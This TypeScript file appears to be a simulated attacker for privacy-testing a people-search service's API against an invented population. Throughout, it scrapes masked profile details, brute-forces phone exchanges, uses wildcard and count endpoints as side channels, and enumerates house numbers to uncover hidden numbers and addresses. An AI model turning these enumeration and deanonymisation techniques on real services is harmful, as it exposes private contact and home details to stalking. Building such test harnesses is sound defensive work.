import type { AddressSearchAnswer, PhoneSearchAnswer } from '../../shared/contract/finding/reverse-search.ts';
import type { PersonDetails } from '../../shared/contract/person/person.ts';
import type { LineType } from '../../shared/contract/person/phone.ts';
import type { Attacker } from './attacker.ts';

/** What the free page of a person says of a number that it hides. */
export interface HiddenNumber {
  readonly areaCode: string;
  readonly lineType: LineType;
}

/** What the free page of a person says of the home whose number it hides. */
export interface HiddenHouse {
  readonly street: string;
  readonly location: string;
}

/** Somebody to find out about: what anybody may know, as a start. */
export interface Victim {
  readonly id: string;
  readonly numbers: readonly HiddenNumber[];
  readonly houses: readonly HiddenHouse[];
}

/** What is left after asking: the candidates that nothing rules out, the likeliest first. */
export interface Guess {
  readonly candidates: readonly string[];
}

/** Reads a person's free page; null if it is not to be had anymore. */
export async function readVictim(attacker: Attacker, id: string): Promise<Victim | null> {
  const path = `/api/v4/person/details?personId=${id}`;
  // A script is refused where a page is not.
  const [first, second] = [await attacker.ask(path), await attacker.ask(path)];
  const answer = first?.status === 200 ? first : second;
  if (answer?.status !== 200) return null;
  const { mobilePhones, landlinePhones, otherPhones, addresses } = answer.json<PersonDetails>().results;
  const numbers = [...mobilePhones, ...landlinePhones, ...otherPhones].flatMap((phone) =>
    phone.type === 'masked' ? [{ areaCode: phone.npa, lineType: phone.linetype }] : [],
  );
  const houses = addresses.flatMap((address) =>
    address.type === 'partial'
      ? [{ street: address.line1WithoutNumber, location: `${address.city}, ${address.stateCode}` }]
      : [],
  );
  const unique = new Map(numbers.map((number) => [`${number.areaCode} ${number.lineType}`, number]));
  return { id, numbers: [...unique.values()], houses };
}

/** The only exchange of an invented number (docs/population.md): an attacker knows it, too. */
const EXCHANGE = '555';
const LINES = Array.from({ length: 10_000 }, (_, line) => String(line).padStart(4, '0'));

/** What somebody knows of the numbers of one area code. */
export class AreaNotes {
  readonly #areaCode: string;
  /** of the numbers asked about: the kind of line of those that may be somebody's hidden number */
  readonly #told = new Map<string, LineType | null>();
  /** how many a wildcard said begin with these seven digits, by the fourth digit from behind */
  readonly #counts = new Map<string, number>();

  constructor(areaCode: string) {
    this.#areaCode = areaCode;
  }

  /** Asks wildcards of several shapes: where numbers are, and whatever else they give away. */
  async askWildcards(attacker: Attacker): Promise<void> {
    for (const digit of '0123456789') {
      const answer = await attacker.ask(`/api/search/phone?phone=1${this.#areaCode}${EXCHANGE}${digit}XXX`);
      if (answer?.status === 200) this.#counts.set(digit, answer.json<PhoneSearchAnswer>().otherNumbers);
    }
    for (const shape of ['XXX1', 'X1X2', '12XX', '1X34', 'XX12'])
      await attacker.ask(`/api/search/phone?phone=1${this.#areaCode}${EXCHANGE}${shape}`);
    for (const shape of [`X${this.#areaCode.slice(1)}5551234`, `${this.#areaCode}X551234`, `${this.#areaCode}55X12X4`])
      await attacker.ask(`/api/search/phone?phone=1${shape}`);
  }

  /** Asks about whole numbers, where most are first, until this many were answered or the budget is used up. */
  async askNumbers(attacker: Attacker, most: number): Promise<void> {
    const digits = [...'0123456789'].toSorted((a, b) => (this.#counts.get(b) ?? 0) - (this.#counts.get(a) ?? 0));
    let answered = 0;
    for (const digit of digits) {
      for (const line of LINES.filter((one) => one.startsWith(digit))) {
        if (answered >= most) return;
        const number = `${this.#areaCode}${EXCHANGE}${line}`;
        if (this.#told.has(number)) continue;
        const answer = await attacker.ask(`/api/search/phone?phone=1${number}`);
        if (answer === null) break;
        const { isOnRecord, isListed, lineType } = answer.json<PhoneSearchAnswer>();
        this.#told.set(number, isOnRecord && !isListed ? lineType : null);
        // Counts of whoever has it would tell whose it is.
        if (isOnRecord) await attacker.ask(`/api/funnel/counts?source=phone&id=1${number}`);
        answered += 1;
      }
    }
  }

  /**
   * The numbers that may be a hidden one: those on record with its kind of line, then those of which nothing is known. A
   * number that is not on record is ruled out only if others of its kind are told.
   */
  guess({ lineType }: HiddenNumber): Guess {
    const all = LINES.map((line) => `${this.#areaCode}${EXCHANGE}${line}`);
    const hits = all.filter((number) => this.#told.get(number) === lineType);
    const open = all.filter((number) => !this.#told.has(number));
    const silent = hits.length > 0 ? [] : all.filter((number) => this.#told.get(number) === null);
    return { candidates: [...hits, ...open, ...silent] };
  }
}

/** House numbers that somebody tries: any house of the country has one of a few thousand. */
const TRIED = Array.from({ length: 9_999 }, (_, at) => String(at + 1));

/**
 * Asks about a street and houses on it, and keeps the house numbers whose answer differs from what most get, or else
 * all; and those of which any answer heard so far says the number with the street.
 */
export async function guessHouse(attacker: Attacker, { street, location }: HiddenHouse, most: number): Promise<Guess> {
  const answers = new Map<string, string>();
  const ask = async (typed: string): Promise<string | null> => {
    const answer = await attacker.ask(`/api/search/address?${new URLSearchParams({ street: typed, location })}`);
    if (answer === null) return null;
    if (answer.status !== 200) return String(answer.status);
    const { house, ...told } = answer.json<AddressSearchAnswer>();
    return JSON.stringify({ hasHouse: house !== null, ...told });
  };
  const alone = await ask(street);
  for (let at = 0; at < most; at += 1) {
    // Spread over the numbers that streets have: 1 to 9,999, near ones first.
    const number = TRIED[(at * 37) % 2_000] ?? '1';
    const text = await ask(`${number} ${street}`);
    if (text === null) break;
    answers.set(number, text);
  }
  const different = [...answers].filter(([, text]) => text !== alone).map(([number]) => number);
  const said = attacker.heard.flatMap((text) => [
    ...text.matchAll(new RegExp(`"(\\d+[A-Z]?) ${escaped(street)}`, 'g')),
  ]);
  const candidates = [...said.map(([, number = '']) => number), ...different];
  return { candidates: candidates.length > 0 ? [...new Set(candidates)] : TRIED };
}

const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
